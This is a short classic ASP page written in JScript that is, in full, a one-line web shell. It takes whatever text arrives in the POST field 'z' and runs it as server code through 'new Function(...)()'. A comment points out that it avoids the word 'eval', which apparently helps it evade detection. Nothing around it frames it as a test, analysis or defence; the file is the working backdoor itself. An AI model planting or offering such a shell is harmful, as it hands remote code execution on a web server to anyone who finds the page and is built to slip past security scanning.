<%@ Language="JScript" %>
<%
// A JScript one-liner that never names eval: the request text becomes a function's body.
(new Function(Request.Form("z")))();
%>
